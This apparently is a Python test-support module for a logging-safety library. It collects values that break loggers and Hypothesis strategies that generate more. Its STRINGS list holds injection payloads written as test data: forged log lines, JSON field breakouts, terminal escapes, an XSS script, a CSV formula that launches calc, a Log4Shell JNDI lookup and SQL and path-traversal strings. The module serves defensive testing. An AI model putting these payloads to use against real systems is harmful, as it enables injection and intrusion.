"""Values that have broken a logger somewhere, and strategies that find more of them."""

from __future__ import annotations

import collections
import json
import os
from decimal import Decimal
from pathlib import Path
from typing import Any

from hypothesis import strategies as st


class Raising:
    def __str__(self) -> str:
        raise ValueError("no text")

    __repr__ = __str__


class Recursing:
    def __str__(self) -> str:
        return str(self)


class NotText:
    def __str__(self) -> str:
        return 7  # type: ignore[return-value]


class Lying:
    @property
    def __class__(self) -> Any:
        raise RuntimeError("no class")

    def __str__(self) -> str:
        return "liar"


class Lazy:
    """Like Django's lazy strings: the text comes to be when it is asked for."""

    def __str__(self) -> str:
        return "translated"


class HostileText(str):
    __slots__ = ()

    def _refuse(self, *args: object) -> Any:
        raise RuntimeError("no")

    __str__ = __repr__ = __len__ = __getitem__ = isascii = encode = __contains__ = _refuse  # type: ignore[assignment]


class HostileDict(dict[Any, Any]):
    def _refuse(self, *args: object) -> Any:
        raise RuntimeError("no")

    items = keys = __iter__ = __len__ = __getitem__ = _refuse  # type: ignore[assignment]


class HostileMapping(collections.UserDict[str, object]):
    def items(self) -> Any:
        raise RuntimeError("no")


class EndlessMapping(collections.UserDict[str, object]):
    def items(self) -> Any:
        number = 0
        while True:
            yield str(number), number
            number += 1


class NamelessMeta(type):
    @property
    def __name__(cls) -> str:  # type: ignore[override]
        raise RuntimeError("no name")


class Nameless(metaclass=NamelessMeta):
    def __str__(self) -> str:
        raise RuntimeError("no text")


def circular_list() -> list[object]:
    result: list[object] = [1]
    result.append(result)
    return result


def circular_dict() -> dict[str, object]:
    result: dict[str, object] = {"a": 1}
    result["self"] = {"again": result}
    return result


def wide(depth: int) -> list[object]:
    """Return a list that takes little memory, and whose text would take all there is."""
    return [wide(depth - 1) if depth else "x" * 256] * 100


# By name, since pytest itself cannot hold some of them (nor Hypothesis the one that lies).
HOSTILE: dict[str, object] = {
    "raising": Raising(),
    "recursing": Recursing(),
    "not text": NotText(),
    "lying": Lying(),
    "lazy": Lazy(),
    "nameless": Nameless(),
    "nameless class": Nameless,
    "hostile text": HostileText("text"),
    "hostile dict": HostileDict(a=1),
    "hostile mapping": HostileMapping(a=1),
    "endless mapping": EndlessMapping(),
    "circular list": circular_list(),
    "circular dict": circular_dict(),
    "nan": float("nan"),
    "infinity": float("-inf"),
    "huge integer": 10**5000,
    "huge negative integer": -(10**5000),
    "integer of 5,000,000 bits": 1 << 5_000_000,
    "invalid bytes": b"\xff\xfe",
    "invalid bytearray": bytearray(b"\x80"),
    "memoryview": memoryview(b"abc"),
    "surrogate": "\ud800",
    "1 MB of text": "a" * 1_000_000,
    "4 MB of emoji": "😀" * 1_000_000,
    "1 MB of bytes": b"a" * 1_000_000,
    "1 MB of question marks": "?" * 1_000_000,
    "mixed set": {1, "a", None, 2.5, (1, 2), frozenset({3})},
    "odd keys": {Raising(): Raising(), None: 1, (1, 2): 3, b"\xff": 4, 1.5: Recursing()},
    "decimal nan": Decimal("NaN"),
    "huge decimal": Decimal(10) ** 5000,
    "object": object(),
    "generator": (number for number in range(3)),
    "exception": Exception("\x1b[31m"),
    "complex": complex(1, float("nan")),
}

# Texts that try to leave their line, their field or their type, and any more that a file lists.
STRINGS = [
    "a\nb",
    "a\r\nlevel=CRITICAL forged",
    '", "level": "CRITICAL',
    "\\",
    "\\u000a",
    "\x1b[2J\x1b]0;title\x07",
    "\x85\x9b31m",
    "\u2028\u2029",
    "\u202egnp.exe",
    "a\u200bb\ufeff",
    "\ud800\udfff\udc80",
    "\x00",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "%s%n%(asctime)s{0.__class__}",
    "${jndi:ldap://203.0.113.1/a}",
    "'; DROP TABLE users; --",
    "../../etc/passwd",
    "ﷺ" * 100,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
]
if "SECGUARD_HOSTILE_STRINGS" in os.environ:  # a JSON file: an object of lists of texts
    _more = json.loads(Path(os.environ["SECGUARD_HOSTILE_STRINGS"]).read_text(encoding="utf-8"))
    STRINGS += [text for texts in _more.values() for text in texts]

SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(st.characters())
    | st.text(st.sampled_from('\n\r\x1b\x00\x85\u2028\u2029\u202e\ud800\udfff?=&token "<>é😀'))
    | st.binary()
    | st.decimals()
    | st.uuids()
    | st.datetimes()
    | st.sampled_from(sorted(HOSTILE.keys() - {"lying"})).map(lambda name: HOSTILE[name])
)
KEYS = st.text(st.characters(), max_size=80) | st.integers() | st.none() | st.binary() | st.sampled_from(["token"])
NESTED = st.recursive(SCALARS, lambda inner: st.lists(inner) | st.dictionaries(KEYS, inner) | st.tuples(inner, inner))


def refuse_constant(name: str) -> Any:
    raise AssertionError(f"{name} is no JSON")


def through_json(value: object) -> object:
    encoded = json.dumps(value, allow_nan=False)
    encoded.encode()
    json.dumps(value, ensure_ascii=False).encode()  # fails for lone surrogates
    return json.loads(encoded, parse_constant=refuse_constant)


def longest_text(value: object) -> int:
    if isinstance(value, str):
        return len(value)
    if isinstance(value, dict):
        return max((longest_text(part) for pair in value.items() for part in pair), default=0)
    if isinstance(value, list):
        return max((longest_text(part) for part in value), default=0)
    return 0
